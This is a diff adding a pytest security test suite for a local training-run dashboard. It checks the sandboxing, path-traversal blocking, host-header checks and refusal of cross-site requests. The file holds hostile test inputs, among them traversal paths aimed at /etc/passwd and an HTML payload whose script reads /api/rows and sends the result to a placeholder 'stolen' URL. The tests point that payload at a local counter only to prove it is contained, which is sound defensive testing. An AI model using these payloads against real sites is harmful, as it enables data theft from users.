@@ -1,0 +1,315 @@
+"""The dashboard as a browser and as an attacker see it."""
+
+from __future__ import annotations
+
+import http.client
+import http.server
+import json
+import os
+import socket
+import threading
+import time
+from collections.abc import Iterator
+from contextlib import contextmanager, suppress
+from pathlib import Path
+
+import pytest
+import uvicorn
+
+from ddtl.commands.dashboard import LOOPBACK, is_loopback
+from ddtl.dashboard import patience
+from ddtl.dashboard.server import app
+from ddtl.utils.errors import UserError
+from tests.dashboard.test_index import started
+from tests.reports.test_run_page import HOSTILE
+from tests.support import browser, records
+
+NAME = HOSTILE[1].replace("/", "")[:120]
+
+
+@contextmanager
+def served(root: Path) -> Iterator[int]:
+    """The port of a dashboard."""
+    listening = socket.create_server(("127.0.0.1", 0))
+    config = uvicorn.Config(app(root, [*LOOPBACK, "[::1]"]), http=patience.Impatient, log_level="error", lifespan="off")
+    server = uvicorn.Server(config)
+    thread = threading.Thread(target=server.run, kwargs={"sockets": [listening]}, daemon=True)
+    thread.start()
+    try:
+        yield listening.getsockname()[1]
+    finally:
+        server.should_exit = True
+        thread.join(timeout=20)
+
+
+@pytest.fixture(scope="module")
+def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    found = tmp_path_factory.mktemp("dashboard") / "runs"
+    records.write(found / "covid19ct" / "one")
+    records.write(found / "covid19ct" / "two", records.table(seed=1))
+    started(found / "covid19ct" / "under_way")
+    started(found / "odd" / NAME)
+    (found / "covid19ct" / "one" / "report.html").write_text("<!doctype html><title>one</title><p>the page of one")
+    (found.parent / "secret.html").write_text("secret")
+    return found
+
+
+@pytest.fixture(scope="module")
+def port(root: Path) -> Iterator[int]:
+    with served(root) as found:
+        yield found
+
+
+def ask(port: int, path: str, method: str = "GET", **headers: str) -> tuple[int, dict[str, str], bytes]:
+    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
+    connection.request(method, path, headers=headers)
+    answer = connection.getresponse()
+    return answer.status, {key.lower(): value for key, value in answer.getheaders()}, answer.read()
+
+
+def test_rows_come_with_a_tag_and_once(port: int) -> None:
+    status, headers, body = ask(port, "/api/rows")
+    assert status == 200
+    assert {row["name"] for row in json.loads(body)["rows"]} == {"one", "two", "under_way", NAME}
+    assert ask(port, "/api/rows", **{"If-None-Match": headers["etag"]})[0] == 304
+
+
+def test_a_report_is_shown_in_a_sandbox(port: int) -> None:
+    status, headers, body = ask(port, "/report/covid19ct/one")
+    assert (status, b'src="/page/covid19ct/one"' in body) == (200, True)
+    assert "frame-src 'self'" in headers["content-security-policy"]
+    assert b"not written by this version" in body
+    status, headers, body = ask(port, "/page/covid19ct/one", **{"Sec-Fetch-Dest": "iframe"})
+    assert (status, b"the page of one" in body) == (200, True)
+    policy = headers["content-security-policy"]
+    assert policy.startswith("sandbox allow-scripts allow-downloads; default-src 'none'; script-src 'sha256-")
+    assert "unsafe" not in policy
+    assert ask(port, "/page/covid19ct/one", **{"Sec-Fetch-Dest": "document"})[0] == 404
+    for kind in ("report", "page"):
+        assert ask(port, f"/{kind}/covid19ct/under_way")[0] == 404
+
+
+def test_other_sites_learn_nothing(port: int) -> None:
+    both = "run=covid19ct/one&run=covid19ct/two"
+    for page in ("/api/rows", f"/compare?{both}", "/report/covid19ct/one", "/page/covid19ct/one"):
+        for origin in ("cross-site", "same-site"):
+            assert ask(port, page, **{"Sec-Fetch-Site": origin})[0] == 403
+        assert ask(port, page, **{"Sec-Fetch-Site": "same-origin"})[0] == 200
+    assert ask(port, "/", **{"Sec-Fetch-Site": "cross-site"})[0] == 200  # a link to it
+
+
+def test_a_client_that_never_asks_or_never_ends_is_cut_off(port: int, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(patience, "ASKING", 1.0)
+    for words in (b"", b"GET / HT", b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX: "):
+        with socket.create_connection(("127.0.0.1", port), timeout=60) as client:
+            client.sendall(words)
+            began = time.monotonic()
+            with suppress(ConnectionResetError):
+                assert client.recv(100) == b""
+            assert time.monotonic() - began < 30
+    assert ask(port, "/")[0] == 200
+
+
+@pytest.mark.parametrize(
+    ("host", "here"),
+    [
+        ("127.0.0.1", True), ("127.8.9.10", True), ("::1", True), ("localhost", True), ("LOCALHOST", True),
+        ("::ffff:127.0.0.1", True), ("0.0.0.0", False), ("::", False), ("192.168.1.2", False), ("example.org", False),
+        ("127.0.0.1.example.org", False),
+    ],
+)  # fmt: skip
+def test_which_addresses_are_this_machine_alone(host: str, here: bool) -> None:
+    assert is_loopback(host) is here
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/report/../secret.html", "/report/..%2f..%2fsecret.html", "/report/%2e%2e/secret", "/report//etc/passwd",
+        "/report/covid19ct", "/report/covid19ct/one/report.html", "/report/covid19ct/one/../../../secret.html",
+        "/static/../server.py", "/static/..%2fserver.py", "/static/dashboard.html", "/api/curves?run=../x",
+        "/covid19ct/one/results.json", "/report/", "/docs",
+    ],
+)  # fmt: skip
+def test_nothing_but_rows_can_be_had(port: int, path: str) -> None:
+    status, _, body = ask(port, path)
+    assert status == 404
+    assert not body.startswith(b"secret")
+    assert b"root:" not in body
+
+
+def test_links_out_of_the_folder_lead_nowhere(root: Path, tmp_path: Path) -> None:
+    records.write(tmp_path / "runs" / "d" / "run")
+    page = tmp_path / "runs" / "d" / "run" / "report.html"
+    page.unlink(missing_ok=True)
+    page.symlink_to(root.parent / "secret.html")
+    with served(tmp_path / "runs") as port:
+        assert ask(port, "/report/d/run")[0] == 404
+
+
+@pytest.mark.parametrize("method", ["POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE"])
+def test_nothing_can_be_changed(port: int, method: str) -> None:
+    for path in ("/", "/api/rows", "/report/covid19ct/one", "/compare"):
+        assert ask(port, path, method)[0] == 405
+
+
+@pytest.mark.parametrize("host", ["evil.example", "evil.example:80", "127.0.0.1.evil.example", ""])
+def test_another_host_is_refused(port: int, host: str) -> None:
+    assert ask(port, "/api/rows", Host=host)[0] == 400
+
+
+def test_what_cannot_be_compared_is_said(port: int) -> None:
+    for query, said in (
+        ("run=covid19ct/one", b"Pick two runs"),
+        ("run=covid19ct/one&run=covid19ct/under_way", b"not finished"),
+    ):
+        status, _, body = ask(port, f"/compare?{query}")
+        assert (status, said in body) == (422, True)
+
+
+def test_a_port_that_is_taken_is_named(root: Path, port: int) -> None:
+    from ddtl.commands import dashboard
+
+    with pytest.raises(UserError, match="port=0"):
+        dashboard.main([f"paths.runs_dir={root}", f"port={port}"])
+    with pytest.raises(UserError, match="Did you mean port"):
+        dashboard.main(["prot=1"])
+    with pytest.raises(UserError, match=r"paths\.runs_dir=FOLDER"):
+        dashboard.main(["paths.runs_dir=/nowhere"])
+
+
+def until(tab: browser.Tab, script: str) -> None:
+    """Wait until an expression on the page is true."""
+    end = time.monotonic() + 30
+    while not tab.run(script):
+        assert time.monotonic() < end, script
+        time.sleep(0.1)
+
+
+@pytest.mark.slow
+def test_in_a_browser_it_sorts_filters_compares_and_keeps_up(root: Path, port: int, tmp_path: Path) -> None:
+    with browser.opened(tmp_path / "profile") as tab:
+        tab.go(f"http://127.0.0.1:{port}/", width=1400)
+        until(tab, "document.querySelectorAll('#body tr').length === 4")
+        names = "[...document.querySelectorAll('#body td.name')].map(cell => cell.textContent)"
+        assert NAME in tab.run(names)
+        # sort by name, both ways
+        tab.run("document.querySelector('#head th[data-key=name] button').click()")
+        up = tab.run(names)
+        tab.run("document.querySelector('#head th[data-key=name] button').click()")
+        assert tab.run(names) == up[::-1]
+        assert tab.run("document.querySelector('#head th[data-key=name]').ariaSort") == "descending"
+        # filter
+        tab.run("document.getElementById('filter').value = 'covid19ct finished'")
+        tab.run("document.getElementById('filter').dispatchEvent(new Event('input'))")
+        assert sorted(tab.run(names)) == ["one", "two"]
+        # pick both, look at their curves and compare them
+        tab.run("document.querySelectorAll('#body input').forEach(box => box.click())")
+        assert tab.run("document.getElementById('picked-count').textContent") == "2 picked"
+        tab.run("document.getElementById('curves').click()")
+        until(tab, "document.querySelectorAll('#charts .main-svg').length > 0")
+        tab.run("document.getElementById('filter').value = ''")
+        tab.run("document.getElementById('filter').dispatchEvent(new Event('input'))")
+        # a new epoch of a running training
+        folder = root / "covid19ct" / "under_way"
+        (folder / ".owner.json").write_text(json.dumps({"pid": os.getpid(), "host": socket.gethostname()}))
+        epochs = "[...document.querySelectorAll('#body tr')].map(row => row.textContent).join('|')"
+        until(tab, f"{epochs}.includes('2/5')")
+        until(tab, "document.querySelectorAll('tr.running').length === 1")
+        with (folder / "metrics.jsonl").open("a") as file:
+            file.write('/roc_auc": 0.9}\n')
+        until(tab, f"{epochs}.includes('3/5')")
+        until(tab, "document.getElementById('said').textContent.includes('epoch 3 of 5')")
+        assert tab.run("document.querySelectorAll('#body img, #body script').length") == 0
+        assert tab.complaints == []
+        compare = tab.run("document.getElementById('compare').href")
+        tab.go(compare, width=1200)
+        until(tab, "document.querySelectorAll('.main-svg').length > 0")
+        assert "What may be claimed" in tab.run("document.body.textContent")
+        # On a phone nothing runs out of the page.
+        tab.go(f"http://127.0.0.1:{port}/", width=390)
+        until(tab, "document.querySelectorAll('#body tr').length === 4")
+        assert tab.run("document.documentElement.scrollWidth") <= 390
+        assert [
+            one for one in tab.requests if not one.startswith((f"http://127.0.0.1:{port}/", "data:", "blob:"))
+        ] == []
+        assert tab.complaints == []
+
+
+# What somebody may put into a page that is passed on; HOME counts who calls.
+PHONES_HOME = """<!doctype html><html><head>
+<meta http-equiv="refresh" content="1; url=HOME/refresh"><link rel="preconnect" href="HOME/connect">
+<link rel="stylesheet" href="HOME/style"><link rel="prefetch" href="HOME/prefetch"><link rel="icon" href="HOME/icon">
+<style>@import "HOME/import"; body { background: url(HOME/body) } @font-face { font-family: x; src: url(HOME/font) }
+</style></head><body style="background: url(HOME/attribute); font-family: x" onload="fetch('HOME/onload')">
+<img src="HOME/img" onerror="location = 'HOME/onerror'"><iframe src="HOME/frame"></iframe><object data="HOME/o"/>
+<video src="HOME/video" poster="HOME/poster"></video><svg><image href="HOME/svg"/><use href="HOME/use#x"/></svg>
+<script src="HOME/script"></script>
+<script>
+fetch("HOME/fetch"); navigator.sendBeacon("HOME/beacon"); new Image().src = "HOME/image"; new WebSocket("WS/socket");
+new EventSource("HOME/events"); window.open("HOME/popup"); setTimeout(() => { top.location = "HOME/top"; }, 200);
+fetch("/api/rows").then(a => a.text()).then(t => { location = "HOME/stolen?" + t; });
+</script>
+<form action="HOME/form" method="post"><button id="b">x</button></form><script>document.forms[0].submit()</script>
+<a id="a" href="HOME/link" ping="HOME/ping">x</a><script>document.getElementById("a").click()</script>
+words of the page</body></html>"""
+
+
+@contextmanager
+def counting() -> Iterator[tuple[str, list[str]]]:
+    """A server's address, and every path that it has been asked for."""
+    asked: list[str] = []
+
+    class Home(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            asked.append(self.path)
+            self.send_response(204)
+            self.end_headers()
+
+        do_POST = do_GET  # noqa: N815  # the name is http.server's
+
+        def log_message(self, *_: object) -> None:
+            """Into the list alone."""
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Home)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        yield f"http://127.0.0.1:{server.server_port}", asked
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+@pytest.mark.slow
+def test_a_page_from_a_stranger_phones_nobody(root: Path, port: int, tmp_path: Path) -> None:
+    with counting() as (home, asked), browser.opened(tmp_path / "profile") as tab:
+        page = PHONES_HOME.replace("HOME", home).replace("WS", home.replace("http", "ws"))
+        (root / "covid19ct" / "two" / "report.html").write_text(page)
+        tab.go(f"http://127.0.0.1:{port}/report/covid19ct/two", width=1200)
+        time.sleep(4)
+        assert tab.run("location.pathname") == "/report/covid19ct/two"
+        assert f"http://127.0.0.1:{port}/page/covid19ct/two" in tab.requests
+        assert asked == []
+        # The counter counts, and the page does what it can where nothing stops it.
+        (tmp_path / "page.html").write_text(page)
+        tab.go((tmp_path / "page.html").as_uri(), width=1200)
+        time.sleep(2)
+        assert len(set(asked)) > 3  # which of them are in time differs
+
+
+@pytest.mark.slow
+def test_our_own_page_works_within_its_frame(root: Path, port: int, tmp_path: Path) -> None:
+    from ddtl.commands.report import write
+
+    write(root / "covid19ct" / "one")
+    with browser.opened(tmp_path / "profile") as tab:
+        tab.go(f"http://127.0.0.1:{port}/report/covid19ct/one", width=1200)
+        until(tab, "document.querySelector('iframe') !== null")
+        assert tab.run("document.querySelector('p')") is None
+        time.sleep(3)
+        assert tab.complaints == []
+        tab.picture(tmp_path / "frame.png")
+        # The same page by itself, under the policy of its own head.
+        tab.go((root / "covid19ct" / "one" / "report.html").as_uri(), width=1200)
+        until(tab, "document.querySelectorAll('.main-svg').length > 0")
+        assert tab.complaints == []
